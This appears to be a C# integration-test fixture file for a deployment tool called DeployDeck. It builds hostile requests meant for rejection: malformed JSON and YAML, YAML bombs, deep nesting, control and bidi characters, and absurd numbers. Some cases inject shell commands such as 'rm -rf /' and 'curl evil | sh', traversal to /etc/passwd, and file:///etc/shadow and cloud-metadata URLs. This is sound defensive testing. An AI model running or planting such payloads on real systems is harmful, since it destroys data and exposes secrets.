using System.Text;
using System.Text.Json.Nodes;

namespace DeployDeck.Integration.Tests.Security;

/// <summary>
/// The hostile-input cases by id. Each builds its request from the running app's ids and names the fields an answer
/// must mention (any of them: the path of the bad value, or the Compose key the reader names).
/// </summary>
public static class HostileCases
{
    public const string Control = "NUL, control and bidi";
    public const string Huge = "huge strings";
    public const string MalformedJson = "malformed JSON";
    public const string WrongTypes = "wrong types";
    public const string Deep = "deep nesting";
    public const string Bombs = "YAML bombs and amplification";
    public const string MalformedYaml = "malformed YAML";
    public const string Absurd = "absurd numbers";
    public const string Traversal = "traversal and shell strings";
    public const string Duplicates = "duplicate keys";
    public const string Nulls = "null items";
    public const string Queries = "hostile queries and paths";
    public const string References = "unknown references";
    public const string Envelope = "content type and size";

    public static readonly string[] Categories = [Control, Huge, MalformedJson, WrongTypes, Deep, Bombs, MalformedYaml, Absurd, Traversal, Duplicates, Nulls, Queries, References, Envelope];

    /// <summary>Stands for a lone surrogate, which no .NET JSON writer emits: replaced by its escape in the body.</summary>
    private const string Lone = "@@LONE@@";

    private static readonly (string Name, string Value)[] Everywhere =
    [
        ("nul", "a\u0000b"), ("soh", "a\u0001b"), ("esc", "\u001b[31mred"), ("c1-nel", "a\u0085b"),
        ("rlo", "deploy\u202Eprod"), ("lri", "x\u2066y\u2069"), ("lone-surrogate", "a" + Lone + "b"),
    ];

    private static readonly (string Name, string Value)[] NotInNames = [("tab", "a\tb"), ("zwsp", "ad\u200Bmin"), ("crlf", "a\r\nSet-Cookie: x=1")];

    private enum Kind
    {
        Name,
        Line,
        Text,
    }

    public static readonly IReadOnlyDictionary<string, HostileCase> All = Build();

    private static Dictionary<string, HostileCase> Build()
    {
        var cases = new Dictionary<string, HostileCase>(StringComparer.Ordinal);
        void Add(string id, string category, Func<HostileContext, HostileRequest> build) => cases.Add(id, new HostileCase(category, build));

        // --- every text field of every endpoint, with every character no field may hold, and one character too many
        foreach (var (endpoint, field, kind, limit, build) in TextFields())
        {
            foreach (var (name, value) in Everywhere)
                Add($"{endpoint}-{field}-{name}", Control, ctx => build(ctx, value));
            Add($"{endpoint}-{field}-huge", Huge, ctx => build(ctx, new string('x', limit + 1)));
            if (kind == Kind.Name)
            {
                foreach (var (name, value) in NotInNames)
                    Add($"{endpoint}-{field}-{name}", Control, ctx => build(ctx, value));
            }
            else if (kind == Kind.Line)
            {
                Add($"{endpoint}-{field}-crlf", Control, ctx => build(ctx, "a\r\nX-Injected: 1"));
            }
        }

        AddYaml(Add);
        AddJson(Add);
        AddNumbers(Add);
        AddQueries(Add);
        AddTraversal(Add);
        return cases;
    }

    /// <summary>(endpoint, field, kind, limit, request with that field set to a value).</summary>
    private static IEnumerable<(string, string, Kind, int, Func<HostileContext, string, HostileRequest>)> TextFields()
    {
        foreach (var (field, kind, limit) in new[] { ("name", Kind.Name, 100), ("description", Kind.Text, 2000), ("files[0].name", Kind.Name, 100), ("files[0].content", Kind.Text, 512 * 1024), ("env", Kind.Text, 64 * 1024), ("profiles[0]", Kind.Name, 100) })
            yield return ("import", field, kind, limit, (_, v) => Import(b => Set(b, field, v), field));

        yield return ("put", "comment", Kind.Line, 500, (ctx, v) => Put(ctx, d => Set(d, "comment", v), "comment"));
        yield return ("put", "phase-name", Kind.Name, 100, (ctx, v) => Put(ctx, d => Set(d, $"phases[{ctx.Phase}].name", v), $"phases[{ctx.Phase}].name"));
        foreach (var (field, kind, limit) in new[]
                 {
                     ("name", Kind.Name, 100), ("image", Kind.Line, 500), ("command[0]", Kind.Text, 65536), ("entrypoint[0]", Kind.Text, 65536),
                     ("environment.GREETING", Kind.Text, 65536), ("labels.team", Kind.Text, 65536), ("healthCheck.test[1]", Kind.Text, 65536),
                     ("dependsOn[0].service", Kind.Name, 63), ("gates[0].url", Kind.Line, 2000), ("gates[0].pattern", Kind.Line, 1000),
                     ("volumes[0].target", Kind.Line, 4096), ("networks[0]", Kind.Name, 256), ("build.context", Kind.Line, 4096),
                 })
        {
            yield return ("put", field, kind, limit, (ctx, v) => Put(ctx, d => Set(d, $"{ctx.Web}.{field}", v), $"{ctx.Web}.{field}"));
        }

        // Keys: the hostile value is the key itself; the answer names the entry, escaped.
        // Keys: the hostile value is the key itself; the answer names the entry (escaped) or, when the JSON reader refuses the key, the dictionary.
        yield return ("put", "environment-key", Kind.Name, 256, (ctx, v) => Put(ctx, d => Node(d, ctx.Web)!["environment"]!.AsObject()["K" + v] = "1", $"{ctx.Web}.environment"));
        yield return ("put", "labels-key", Kind.Name, 256, (ctx, v) => Put(ctx, d => Node(d, ctx.Web)!["labels"]!.AsObject()["L" + v] = "1", $"{ctx.Web}.labels"));

        foreach (var (field, kind, limit) in new[] { ("username", Kind.Name, 64), ("password", Kind.Line, 1024), ("roles[0]", Kind.Name, 40) })
            yield return ("users", field, kind, limit, (_, v) => Body("POST", "/api/users", Set(Obj(("username", "hostile-u1"), ("password", "long-enough-password-1"), ("roles", new JsonArray("Viewer"))), field, v), field));
        yield return ("roles", "roles[0]", Kind.Name, 40, (ctx, v) => Body("PUT", $"/api/users/{ctx.UserId}/roles", Obj(("roles", new JsonArray(v))), "roles[0]"));
        yield return ("reset", "newPassword", Kind.Line, 1024, (ctx, v) => Body("POST", $"/api/users/{ctx.UserId}/password", Obj(("newPassword", v)), "newPassword"));
        foreach (var (field, kind, limit) in new[] { ("name", Kind.Name, 100), ("url", Kind.Line, 2000), ("events[0]", Kind.Name, 40) })
            yield return ("webhooks", field, kind, limit, (_, v) => Body("POST", "/api/webhooks", Set(Obj(("name", "hook"), ("url", "http://127.0.0.1:9/hook"), ("events", new JsonArray("rollout-finished"))), field, v), field));
        foreach (var (field, kind, limit) in new[] { ("username", Kind.Name, 64), ("password", Kind.Line, 1024), ("name", Kind.Name, 100) })
            yield return ("tokens", field, kind, limit, (_, v) => Body("POST", "/api/tokens", Set(Obj(("username", "nobody"), ("password", "wrong-password-1"), ("name", "t")), field, v), field));
        yield return ("start", "acknowledgement", Kind.Line, 1000, (ctx, v) => Body("POST", "/api/rollouts", Obj(("planId", ctx.PlanId.ToString()), ("hostId", ctx.HostId.ToString()), ("acknowledgement", v)), "acknowledgement"));
        yield return ("abort", "reason", Kind.Line, 2000, (ctx, v) => Body("POST", $"/api/rollouts/{ctx.RolloutId}/abort", Obj(("reason", v)), "reason"));
        yield return ("resume", "reason", Kind.Line, 2000, (ctx, v) => Body("POST", $"/api/rollouts/{ctx.RolloutId}/resume", Obj(("reason", v)), "reason"));
        yield return ("approve", "comment", Kind.Line, 500, (ctx, v) => Body("POST", $"/api/rollouts/{ctx.RolloutId}/approve", Obj(("comment", v)), "comment"));
        yield return ("emergency", "reason", Kind.Line, 2000, (ctx, v) => Body("POST", $"/api/hosts/{ctx.HostId}/emergency-stop", Obj(("reason", v)), "reason"));
        yield return ("prune", "items[0]", Kind.Text, 65536, (ctx, v) => Body("POST", $"/api/hosts/{ctx.HostId}/prune", Obj(("kinds", new JsonArray("Images")), ("confirm", false), ("items", new JsonArray(v))), "items[0]"));
    }

    private static void AddYaml(Action<string, string, Func<HostileContext, HostileRequest>> add)
    {
        const string content = "files[0].content";
        void Yaml(string id, string category, string yaml, params string[] fields) => add($"yaml-{id}", category, _ => Import(b => Set(b, "files[0].content", yaml), [content, .. fields]));
        void YamlEnv(string id, string category, string yaml, string env, params string[] fields) =>
            add($"yaml-{id}", category, _ => Import(b => { Set(b, "files[0].content", yaml); Set(b, "env", env); }, [content, "env", .. fields]));
        string Web(string extra) => "services:\n  web:\n    image: nginx\n" + extra;

        Yaml("unclosed-flow-mapping", MalformedYaml, Web("    labels: {a: b\n"));
        Yaml("unclosed-flow-sequence", MalformedYaml, Web("    ports: [\"80\"\n"));
        Yaml("bad-indentation", MalformedYaml, "services:\n  web:\n    image: nginx\n   ports:\n      - \"80\"\n");
        Yaml("tab-indentation", MalformedYaml, "services:\n\tweb:\n\t\timage: nginx\n");
        Yaml("open-bracket", MalformedYaml, "services: [\n");
        Yaml("lone-colon", MalformedYaml, ":\n", "no services");
        Yaml("bad-tag", MalformedYaml, Web("    labels: !<%zz> x\n"));
        Yaml("yaml-2-directive", MalformedYaml, "%YAML 2.0\n---\nservices: {}\n");
        Yaml("two-documents", MalformedYaml, Web("") + "---\nservices: {}\n", "more than one");
        Yaml("alias-without-anchor", MalformedYaml, "services:\n  web:\n    image: *nope\n", "alias");
        Yaml("services-scalar", MalformedYaml, "services: 5\n", "services");
        Yaml("service-scalar", MalformedYaml, "services:\n  web: nginx\n", "web");
        Yaml("root-list", MalformedYaml, "- a\n- b\n", "top level");
        Yaml("no-services", MalformedYaml, "version: '3'\n", "no services");
        Yaml("plain-text", MalformedYaml, "just some text\n", "top level");
        Yaml("key-is-a-map", MalformedYaml, Web("    ? {a: b}\n    : c\n"), "key");
        Yaml("merge-of-scalar", MalformedYaml, Web("    <<: 5\n"), "merge key");

        Yaml("dup-image", Duplicates, "services:\n  web:\n    image: a\n    image: b\n", "duplicate key 'image'");
        Yaml("dup-service", Duplicates, "services:\n  web: {image: a}\n  web: {image: b}\n", "duplicate key 'web'");
        Yaml("dup-env", Duplicates, Web("    environment:\n      A: 1\n      A: 2\n"), "duplicate key 'A'");
        Yaml("dup-services", Duplicates, "services: {}\nservices: {}\n", "duplicate key 'services'");

        Yaml("depth-1000-mappings", Deep, Web("    x-deep: " + string.Concat(Enumerable.Repeat("{a: ", 1000)) + "1" + new string('}', 1000) + "\n"), "nested more than");
        Yaml("depth-3000-sequences", Deep, Web("    command: " + new string('[', 3000) + new string(']', 3000) + "\n"), "nested more than");
        Yaml("depth-100000-sequences", Deep, Web("    command: " + new string('[', 100_000) + new string(']', 100_000) + "\n"), "nested more than");
        Yaml("depth-block-mappings", Deep, Web(string.Concat(Enumerable.Range(0, 120).Select(i => new string(' ', 4 + (2 * i)) + "a:\n")) + new string(' ', 244) + "b: 1\n"), "nested more than");
        var graft = new StringBuilder(Web("")).Append("x-l0: &l0 ").Append('[', 40).Append('1').Append(']', 40).Append('\n');
        for (var i = 1; i <= 5; i++)
            graft.Append($"x-l{i}: &l{i} ").Append('[', 40).Append($"*l{i - 1}").Append(']', 40).Append('\n');
        Yaml("depth-alias-graft", Deep, graft.ToString(), "nested more than");

        var laughs = new StringBuilder(Web("")).Append("x-l0: &l0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
        for (var level = 1; level <= 9; level++)
            laughs.Append($"x-l{level}: &l{level} [").Append(string.Join(", ", Enumerable.Repeat($"*l{level - 1}", 9))).Append("]\n");
        Yaml("billion-laughs", Bombs, laughs.ToString(), "YAML bomb");
        var strings = new StringBuilder(Web("")).Append("x-big: &big \"").Append('A', 100_000).Append("\"\n")
            .Append("x-l1: &l1 [").Append(string.Join(", ", Enumerable.Repeat("*big", 10))).Append("]\n")
            .Append("x-l2: &l2 [").Append(string.Join(", ", Enumerable.Repeat("*l1", 10))).Append("]\n")
            .Append("x-l3: &l3 [").Append(string.Join(", ", Enumerable.Repeat("*l2", 10))).Append("]\n");
        Yaml("alias-string-amplification", Bombs, strings.ToString(), "YAML bomb");
        var doubling = new StringBuilder(Web("")).Append("x-d0: &d0 [x]\n");
        for (var i = 1; i <= 30; i++)
            doubling.Append($"x-d{i}: &d{i} [*d{i - 1}, *d{i - 1}]\n");
        Yaml("alias-doubling", Bombs, doubling.ToString(), "YAML bomb");
        var envAliases = new StringBuilder("x-v: &v \"${BIG}\"\nservices:\n  web:\n    image: nginx\n    environment:\n");
        for (var i = 0; i < 200; i++)
            envAliases.Append($"      V{i}: *v\n");
        YamlEnv("variable-amplification-aliases", Bombs, envAliases.ToString(), "BIG=" + new string('B', 60_000) + "\n", "interpolation");
        YamlEnv("variable-amplification-one-scalar", Bombs, Web("    command: \"" + string.Concat(Enumerable.Repeat("${BIG}", 5000)) + "\"\n"), "BIG=" + new string('B', 60_000) + "\n", "interpolation");
        Yaml("nested-defaults-17", Bombs, Web("    command: \"" + string.Concat(Enumerable.Repeat("${A:-", 17)) + "x" + new string('}', 17) + "\"\n"), "nests defaults");
        Yaml("nested-defaults-80000", Bombs, Web("    command: \"" + string.Concat(Enumerable.Repeat("${A:-", 80_000)) + "x" + new string('}', 80_000) + "\"\n"), "nests defaults");
        Yaml("unclosed-interpolation", Bombs, Web("    command: \"${" + new string('x', 10_000) + "\"\n"), "interpolation");
        YamlEnv("required-variable", References, Web("    image: \"nginx:${TAG:?set TAG}\"\n"), "OTHER=1\n", "variable TAG");

        foreach (var (id, yaml, field) in new[]
                 {
                     ("mem-negative", Web("    mem_limit: -5g\n"), "mem_limit"), ("mem-unit", Web("    mem_limit: 12XB\n"), "mem_limit"),
                     ("mem-overflow", Web("    mem_limit: 1e400\n"), "mem_limit"), ("mem-absurd", Web("    mem_limit: 99999t\n"), "mem_limit"),
                     ("mem-under-engine-minimum", Web("    mem_limit: 1k\n"), "engine's minimum"), ("cpus-zero", Web("    cpus: 0\n"), "cpus"),
                     ("cpus-negative", Web("    cpus: -1\n"), "cpus"), ("cpus-nan", Web("    cpus: .nan\n"), "cpus"), ("cpus-inf", Web("    cpus: .inf\n"), "cpus"),
                     ("cpus-huge", Web("    cpus: 1e9\n"), "cpus"),
                     ("reservation-over-limit", Web("    mem_limit: 64m\n    mem_reservation: 1g\n"), "reservation"),
                     ("swap-under-limit", Web("    mem_limit: 1g\n    memswap_limit: 64m\n"), "memory+swap"),
                     ("ulimit-negative", Web("    ulimits:\n      nofile: -5\n"), "ulimits.nofile"),
                     ("ulimit-soft-over-hard", Web("    ulimits:\n      nofile: {soft: 10, hard: 5}\n"), "ulimits.nofile"),
                     ("port-too-high", Web("    ports: [\"99999:80\"]\n"), "ports"), ("port-word", Web("    ports: [\"abc\"]\n"), "ports"),
                     ("port-zero", Web("    ports: [\"0:0\"]\n"), "ports"),
                     ("interval-parsecs", Web("    healthcheck: {test: [CMD, \"true\"], interval: 5 parsecs}\n"), "healthcheck.interval"),
                     ("interval-a-year", Web("    healthcheck: {test: [CMD, \"true\"], interval: 9000h}\n"), "healthcheck.interval"),
                     ("retries-negative", Web("    healthcheck: {test: [CMD, \"true\"], retries: -1}\n"), "healthcheck.retries"),
                     ("restart-unknown", Web("    restart: sometimes\n"), "restart"), ("restart-retries", Web("    restart: on-failure:99999\n"), "restart"),
                     ("restart-condition", Web("    deploy: {restart_policy: {condition: sometimes}}\n"), "condition"),
                     ("healthcheck-test-shape", Web("    healthcheck: {test: [curl, x]}\n"), "healthcheck test"),
                     ("gate-status", Web("    x-deploydeck: {gates: [{http: \"http://127.0.0.1/\", status: \"0-999\"}]}\n"), "status"),
                     ("gate-timeout", Web("    x-deploydeck: {gates: [{http: \"http://127.0.0.1/\", timeout: 9000h}]}\n"), "timeout"),
                     ("gate-memory-percent", Web("    mem_limit: 64m\n    x-deploydeck: {gates: [{memory: 500}]}\n"), "memory gate"),
                     ("gate-regex", Web("    x-deploydeck: {gates: [{logs: \"(unclosed\"}]}\n"), "log gate"),
                 })
        {
            Yaml(id, Absurd, yaml, field);
        }

        Yaml("depends-on-ghost", References, Web("    depends_on: [ghost]\n"), "ghost");
        Yaml("depends-cycle", References, "services:\n  a: {image: x, depends_on: [b]}\n  b: {image: x, depends_on: [a]}\n", "dependency cycle");
        Yaml("depends-on-profile", References, "services:\n  a: {image: x, depends_on: [b]}\n  b: {image: x, profiles: [debug]}\n", "debug");
        Yaml("env-value-nul", Control, Web("    environment:\n      A: \"x\\0y\"\n"), "environment.A");
        Yaml("env-value-control", Control, Web("    environment:\n      A: \"x\\x01y\"\n"), "environment.A");
        Yaml("label-bidi", Control, Web("    labels:\n      owner: \"deploy\\u202eprod\"\n"), "labels.owner");
        Yaml("command-escape", Control, Web("    command: [\"echo\", \"\\e[31m\"]\n"), "command[1]");
        Yaml("image-bidi", Control, "services:\n  web:\n    image: \"nginx\\u202e\"\n", "image");
        Yaml("service-name-bidi", Control, "services:\n  \"web\\u202e\":\n    image: nginx\n", "service name");
        Yaml("service-name-nul", Control, "services:\n  \"web\\0\":\n    image: nginx\n", "service name");
        Yaml("image-shell", Traversal, "services:\n  web:\n    image: \"nginx; rm -rf /\"\n", "image");
        Yaml("image-backticks", Traversal, "services:\n  web:\n    image: \"`reboot`\"\n", "image");
        Yaml("image-command-substitution", Traversal, "services:\n  web:\n    image: \"$$(id)\"\n", "image");
        Yaml("image-traversal", Traversal, "services:\n  web:\n    image: \"../../etc/passwd\"\n", "image");
        Yaml("image-pipe", Traversal, "services:\n  web:\n    image: \"nginx && curl evil | sh\"\n", "image");
        Yaml("service-name-traversal", Traversal, "services:\n  \"../x\":\n    image: nginx\n", "service name");
        Yaml("gate-file-url", Traversal, Web("    x-deploydeck: {gates: [{http: \"file:///etc/shadow\"}]}\n"), "HTTP gate");
        Yaml("gate-metadata-url", Traversal, Web("    x-deploydeck: {gates: [{http: \"http://169.254.169.254/latest/meta-data/\"}]}\n"), "HTTP gate");
        Yaml("gate-metadata-ipv6", Traversal, Web("    x-deploydeck: {gates: [{http: \"http://[fe80::1]/\"}]}\n"), "HTTP gate");
        YamlEnv("env-line-without-equals", MalformedYaml, Web(""), "A=1\nJUST_A_KEY\n", ".env line 2");
        add("yaml-eleven-files", Envelope, _ => Import(b => b["files"] = new JsonArray(Enumerable.Range(0, 11).Select(i => (JsonNode)Obj(("name", $"f{i}.yml"), ("content", Web("")))).ToArray()), "files"));
        add("yaml-too-many-services", Absurd, _ => Import(b => Set(b, "files[0].content", "services:\n" + string.Concat(Enumerable.Range(0, 201).Select(i => $"  s{i}: {{image: x}}\n"))), "201 services", "files[0].content"));
    }

    private static void AddJson(Action<string, string, Func<HostileContext, HostileRequest>> add)
    {
        void Raw(string id, string category, string method, Func<HostileContext, string> path, string body, params string[] fields) =>
            add(id, category, ctx => new HostileRequest(method, path(ctx), Encoding.UTF8.GetBytes(body), "application/json", fields));
        void RawBytes(string id, string category, string method, Func<HostileContext, string> path, byte[] body, params string[] fields) =>
            add(id, category, ctx => new HostileRequest(method, path(ctx), body, "application/json", fields));

        // Each target with a property of its own: unknown properties are skipped unread, duplicates and bad UTF-8 in them too.
        var targets = new (string Name, string Method, Func<HostileContext, string> Path, string Key)[]
        {
            ("import", "POST", _ => "/api/plans/import", "name"), ("put", "PUT", ctx => $"/api/plans/{ctx.PlanId}", "comment"), ("users", "POST", _ => "/api/users", "username"),
            ("webhooks", "POST", _ => "/api/webhooks", "name"), ("tokens", "POST", _ => "/api/tokens", "username"), ("start", "POST", _ => "/api/rollouts", "acknowledgement"),
        };
        foreach (var (name, method, path, key) in targets)
        {
            Raw($"{name}-json-truncated", MalformedJson, method, path, "{\"name\":\"x\",\"files\":[", "body", "files", "name");
            Raw($"{name}-json-trailing-garbage", MalformedJson, method, path, "{} x", "body");
            Raw($"{name}-json-single-quotes", MalformedJson, method, path, "{'name':'x'}", "body");
            Raw($"{name}-json-comment", MalformedJson, method, path, "{/* c */ \"name\": \"x\"}", "body", "name");
            Raw($"{name}-json-nan", MalformedJson, method, path, "{\"x\": NaN}", "body", "x");
            Raw($"{name}-json-unquoted-key", MalformedJson, method, path, "{name: \"x\"}", "body");
            Raw($"{name}-json-trailing-comma", MalformedJson, method, path, "{\"name\": \"x\",}", "body", "name");
            Raw($"{name}-json-bad-escape", MalformedJson, method, path, "{\"name\": \"\\x41\"}", "body", "name");
            Raw($"{name}-json-root-array", WrongTypes, method, path, "[]", "body");
            Raw($"{name}-json-root-number", WrongTypes, method, path, "123", "body");
            RawBytes($"{name}-json-invalid-utf8", MalformedJson, method, path, [.. Encoding.UTF8.GetBytes($"{{\"{key}\": \""), 0xC3, 0x28, .. "\"}"u8], "body", key);
            Raw($"{name}-json-duplicate-key", Duplicates, method, path, $"{{\"{key}\": \"a\", \"{key}\": \"b\"}}", key, "twice");
            Raw($"{name}-json-duplicate-key-case", Duplicates, method, path, $"{{\"{key}\": \"a\", \"{char.ToUpperInvariant(key[0])}{key[1..]}\": \"b\"}}", key, "twice");
            Raw($"{name}-json-deep", Deep, method, path, $"{{\"{key}\": " + new string('[', 5000) + new string(']', 5000) + "}", key, "body");
        }

        Raw("import-empty-object", References, "POST", _ => "/api/plans/import", "{}", "files", "name");
        Raw("import-null", References, "POST", _ => "/api/plans/import", "null", "files");
        Raw("import-name-number", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": 5, \"files\": []}", "name");
        Raw("import-files-string", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": \"docker-compose.yml\"}", "files");
        Raw("import-file-string", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [\"services: {}\"]}", "files[0]");
        Raw("import-content-object", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [{\"name\": \"a\", \"content\": {}}]}", "files[0].content");
        Raw("import-profiles-string", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [], \"profiles\": \"debug\"}", "profiles");
        Raw("import-env-list", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [], \"env\": [\"A=1\"]}", "env");
        Raw("import-budget-string", WrongTypes, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [], \"stackBudgetBytes\": \"big\"}", "stackBudgetBytes");
        Raw("import-budget-overflow", Absurd, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [], \"stackBudgetBytes\": 1e400}", "stackBudgetBytes");
        Raw("import-file-null", Nulls, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [null]}", "files[0]");
        Raw("import-profile-null", Nulls, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [{\"name\": \"a\", \"content\": \"services: {a: {image: x}}\"}], \"profiles\": [null]}", "profiles[0]");
        Raw("import-empty-content", References, "POST", _ => "/api/plans/import", "{\"name\": \"x\", \"files\": [{\"name\": \"a\", \"content\": \"  \"}]}", "files[0].content");
        Raw("import-name-taken", References, "POST", _ => "/api/plans/import", "{\"name\": \"hostile-base\", \"files\": [{\"name\": \"a\", \"content\": \"services: {a: {image: x}}\"}]}", "name");
        Raw("import-name-blank", References, "POST", _ => "/api/plans/import", "{\"name\": \"   \", \"files\": [{\"name\": \"a\", \"content\": \"services: {a: {image: x}}\"}]}", "name");

        foreach (var (id, mutate, field) in new (string, Action<HostileContext, JsonNode>, Func<HostileContext, string>)[]
                 {
                     ("soak-string", (c, d) => Set(d, $"phases[{c.Phase}].soakSeconds", "abc"), c => $"phases[{c.Phase}].soakSeconds"),
                     ("memory-string", (c, d) => Set(d, $"{c.Web}.memoryLimitBytes", "1g"), c => $"{c.Web}.memoryLimitBytes"),
                     ("cpus-bool", (c, d) => Set(d, $"{c.Web}.cpus", true), c => $"{c.Web}.cpus"),
                     ("command-string", (c, d) => Set(d, $"{c.Web}.command", "echo hi"), c => $"{c.Web}.command"),
                     ("environment-list", (c, d) => Set(d, $"{c.Web}.environment", new JsonArray("A=1")), c => $"{c.Web}.environment"),
                     ("phases-object", (_, d) => d["phases"] = new JsonObject(), _ => "phases"),
                     ("services-string", (c, d) => Set(d, $"phases[{c.Phase}].services", "web"), c => $"phases[{c.Phase}].services"),
                     ("base-revision-string", (_, d) => d["baseRevision"] = "one", _ => "baseRevision"),
                     ("gate-kind-word", (c, d) => Set(d, $"{c.Web}.gates[0].kind", "Bogus"), c => $"{c.Web}.gates[0].kind"),
                     ("gate-kind-99", (c, d) => Set(d, $"{c.Web}.gates[0].kind", 99), c => $"{c.Web}.gates[0].kind"),
                     ("retries-fraction", (c, d) => Set(d, $"{c.Web}.healthCheck.retries", 1.5), c => $"{c.Web}.healthCheck.retries"),
                     ("healthcheck-string", (c, d) => Set(d, $"{c.Web}.healthCheck", "CMD true"), c => $"{c.Web}.healthCheck"),
                     ("ulimits-list", (c, d) => Set(d, $"{c.Web}.ulimits", new JsonArray(1)), c => $"{c.Web}.ulimits"),
                     ("ports-number", (c, d) => Set(d, $"{c.Web}.ports", 80), c => $"{c.Web}.ports"),
                     ("depends-string", (c, d) => Set(d, $"{c.Web}.dependsOn", "db"), c => $"{c.Web}.dependsOn"),
                 })
        {
            add($"put-type-{id}", WrongTypes, ctx => Put(ctx, d => mutate(ctx, d), field(ctx)));
        }

        foreach (var (id, path) in new (string, Func<HostileContext, string>)[]
                 {
                     ("command", c => $"{c.Web}.command"), ("entrypoint", c => $"{c.Web}.entrypoint"), ("ports", c => $"{c.Web}.ports"),
                     ("depends-on", c => $"{c.Web}.dependsOn"), ("gates", c => $"{c.Web}.gates"), ("health-test", c => $"{c.Web}.healthCheck.test"),
                     ("networks", c => $"{c.Web}.networks"), ("volumes", c => $"{c.Web}.volumes"), ("services", c => $"phases[{c.Phase}].services"), ("phases", _ => "phases"),
                 })
        {
            add($"put-null-{id}", Nulls, ctx => Put(ctx, d => Set(d, path(ctx), new JsonArray((JsonNode?)null)), path(ctx) + "[0]"));
        }

        add("put-null-environment-value", Nulls, ctx => Put(ctx, d => Node(d, ctx.Web)!["environment"]!["GREETING"] = null, $"{ctx.Web}.environment.GREETING"));
        add("put-null-label-value", Nulls, ctx => Put(ctx, d => Node(d, ctx.Web)!["labels"]!["team"] = null, $"{ctx.Web}.labels.team"));
        add("users-null-role", Nulls, _ => Body("POST", "/api/users", Obj(("username", "hostile-u2"), ("password", "long-enough-password-1"), ("roles", new JsonArray((JsonNode?)null))), "roles[0]"));
        add("webhooks-null-event", Nulls, _ => Body("POST", "/api/webhooks", Obj(("name", "hook"), ("url", "http://127.0.0.1:9/h"), ("events", new JsonArray((JsonNode?)null))), "events[0]"));
        add("roles-null-role", Nulls, ctx => Body("PUT", $"/api/users/{ctx.UserId}/roles", Obj(("roles", new JsonArray((JsonNode?)null))), "roles[0]"));
        add("prune-null-item", Nulls, ctx => Body("POST", $"/api/hosts/{ctx.HostId}/prune", Obj(("kinds", new JsonArray("Images")), ("confirm", false), ("items", new JsonArray((JsonNode?)null))), "items[0]"));

        add("put-duplicate-top", Duplicates, ctx => Put(ctx, _ => { }, "comment") with { Body = Prefix(Put(ctx, _ => { }, "").Body!, "\"comment\": \"a\", \"comment\": \"b\", ") });
        add("put-duplicate-env", Duplicates, ctx =>
        {
            var request = Put(ctx, d => Node(d, ctx.Web)!["environment"] = new JsonObject { ["AA"] = "1", ["BB"] = "2" }, "AA");
            return request with { Body = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(request.Body!).Replace("\"BB\":", "\"AA\":", StringComparison.Ordinal)) };
        });
        add("put-deep-command", Deep, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.command", Nest(100)), $"{ctx.Web}.command", "nested"));
        add("put-deep-environment", Deep, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.environment.A", NestObject(100)), $"{ctx.Web}.environment", "nested"));

        add("put-mask-for-nothing", References, ctx => Put(ctx, d => Node(d, ctx.Web)!["labels"]!["new"] = "••••••••", "labels.new"));
        add("put-mask-new-service", References, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.name", "renamed"), "environment.DB_PASSWORD", "renamed"));
        add("put-depends-on-ghost", References, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.dependsOn[0].service", "ghost"), "ghost"));
        add("put-stale-base", References, ctx => Put(ctx, d => d["baseRevision"] = 0, "revision"));
        add("put-unknown-plan", References, ctx => Put(ctx, _ => { }, "no plan") with { Path = $"/api/plans/{Guid.NewGuid()}" });
        add("put-no-phases", References, ctx => Put(ctx, d => d["phases"] = new JsonArray(), "phases"));
        add("put-two-services-one-name", References, ctx => Put(ctx, d => Set(d, $"{ctx.Db}.name", "web"), "used twice"));
        add("put-dependency-on-itself", References, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.dependsOn[0].service", "web"), "depends on itself", "cycle"));
        add("start-unknown-plan", References, ctx => Body("POST", "/api/rollouts", Obj(("planId", Guid.NewGuid().ToString()), ("hostId", ctx.HostId.ToString())), "plan"));
        add("start-unknown-host", References, ctx => Body("POST", "/api/rollouts", Obj(("planId", ctx.PlanId.ToString()), ("hostId", Guid.NewGuid().ToString())), "host"));
        add("start-missing-ids", References, _ => Body("POST", "/api/rollouts", Obj(("acknowledgement", "x")), "planId"));
        add("start-plan-not-guid", WrongTypes, _ => Body("POST", "/api/rollouts", Obj(("planId", "plan-1"), ("hostId", 5)), "planId"));
        add("webhooks-unknown-host", References, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", "http://127.0.0.1:9/h"), ("events", new JsonArray("rollout-finished")), ("hostId", Guid.NewGuid().ToString())), "host"));
        add("webhooks-unknown-plan", References, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", "http://127.0.0.1:9/h"), ("events", new JsonArray("rollout-finished")), ("planId", Guid.NewGuid().ToString())), "plan"));
        add("webhooks-host-not-guid", WrongTypes, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", "http://127.0.0.1:9/h"), ("events", new JsonArray("rollout-finished")), ("hostId", "prod")), "hostId"));
        add("webhooks-events-string", WrongTypes, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", "http://127.0.0.1:9/h"), ("events", "rollout-finished")), "events"));
        add("webhooks-no-events", References, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", "http://127.0.0.1:9/h"), ("events", new JsonArray())), "event"));
        add("webhooks-unknown-event", References, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", "http://127.0.0.1:9/h"), ("events", new JsonArray("bogus"))), "bogus"));
        add("users-roles-string", WrongTypes, _ => Body("POST", "/api/users", Obj(("username", "hostile-u3"), ("password", "long-enough-password-1"), ("roles", "Admin")), "roles"));
